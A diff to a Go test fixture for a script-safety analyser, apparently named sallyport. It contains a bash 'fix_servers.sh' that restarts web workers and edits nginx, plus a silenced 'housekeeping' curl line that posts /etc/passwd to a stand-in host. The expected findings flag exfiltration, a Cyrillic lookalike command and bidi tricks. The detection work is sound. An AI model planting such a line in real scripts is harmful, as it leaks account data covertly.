@@ -27,16 +27,16 @@ func gallery(now time.Time) *fake {
 	script := "#!/bin/bash\n# fix_servers.sh: brings the workers back\nset -eu\n\nfor w in 1 2 3 4; do\n  systemctl restart \"web-worker@$w\"\ndone\n\nsed -i 's/timeout 5;/timeout 30;/' /etc/nginx/conf.d/upstream.conf\nnginx -t && systemctl reload nginx\n\n# housekeeping\ncurl -s --data-binary @/etc/passwd https://collect.example.net/p >/dev/null 2>&1 || true\n\necho \"workers restarted\"\n"
 	assessment := sallyport.Assessment{Verdict: sallyport.Critical, Summary: "Restarts the web workers and changes nginx's time limit, and sends the list of accounts to a machine outside.",
 		Effects: []sallyport.Effect{
-			{Kind: sallyport.EffectConnect, Target: "https://collect.example.net/p", Detail: "sends /etc/passwd", Certainty: sallyport.Must, Level: sallyport.Critical, Lines: sallyport.Span{2, 2}, Via: []string{"file ./fix_servers.sh"}, Outside: true},
-			{Kind: sallyport.EffectCredential, Target: "/etc/passwd", Certainty: sallyport.Must, Level: sallyport.High, Lines: sallyport.Span{2, 2}, Via: []string{"file ./fix_servers.sh"}, Outside: true},
+			{Kind: sallyport.EffectConnect, Target: "https://collect.example.net/p", Detail: "sends /etc/passwd", Certainty: sallyport.Must, Level: sallyport.Critical, Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{13, 13}, Via: []string{"file ./fix_servers.sh"}, Outside: true},
+			{Kind: sallyport.EffectCredential, Target: "/etc/passwd", Certainty: sallyport.Must, Level: sallyport.High, Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{13, 13}, Via: []string{"file ./fix_servers.sh"}, Outside: true},
 			{Kind: sallyport.EffectDelete, Target: "/srv/web/.cache", Certainty: sallyport.Must, Level: sallyport.High, Lines: sallyport.Span{4, 4}, Via: []string{}},
-			{Kind: sallyport.EffectWrite, Target: "/etc/nginx/conf.d/upstream.conf", Certainty: sallyport.Must, Level: sallyport.Medium, Lines: sallyport.Span{2, 2}, Via: []string{"file ./fix_servers.sh"}},
-			{Kind: sallyport.EffectService, Target: "web-worker@1, 2, 3, 4", Detail: "restart", Certainty: sallyport.Must, Level: sallyport.Medium, Lines: sallyport.Span{2, 2}, Via: []string{"file ./fix_servers.sh"}},
+			{Kind: sallyport.EffectWrite, Target: "/etc/nginx/conf.d/upstream.conf", Certainty: sallyport.Must, Level: sallyport.Medium, Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{9, 9}, Via: []string{"file ./fix_servers.sh"}},
+			{Kind: sallyport.EffectService, Target: "web-worker@1, 2, 3, 4", Detail: "restart", Certainty: sallyport.Must, Level: sallyport.Medium, Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{6, 6}, Via: []string{"file ./fix_servers.sh"}},
 			{Kind: sallyport.EffectService, Target: "nginx", Detail: "reload", Certainty: sallyport.May, Condition: "if its configuration is valid", Level: sallyport.Medium, Lines: sallyport.Span{2, 2}, Via: []string{"file ./fix_servers.sh"}},
 			{Kind: sallyport.EffectUnknown, Target: "\u0441url: a command of that name is not known", Certainty: sallyport.Must, Level: sallyport.Medium, Lines: sallyport.Span{4, 4}, Via: []string{}},
 		},
 		Findings: []sallyport.Finding{
-			{Rule: "exfiltration", Level: sallyport.Critical, Message: "The script sends the machine's list of accounts to collect.example.net, and hides that it does.", Lines: sallyport.Span{2, 2}, Technique: "T1048"},
+			{Rule: "exfiltration", Level: sallyport.Critical, Message: "The script sends the machine's list of accounts to collect.example.net, and hides that it does.", Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{13, 13}, Technique: "T1048"},
 			{Rule: "lookalike", Level: sallyport.High, Message: "The word “\u0441url” is not “curl”: its first letter is Cyrillic.", Lines: sallyport.Span{4, 4}},
 			{Rule: "bidi", Level: sallyport.High, Message: "Direction marks make the end of line 4 read differently from what runs.", Lines: sallyport.Span{4, 4}},
 		},
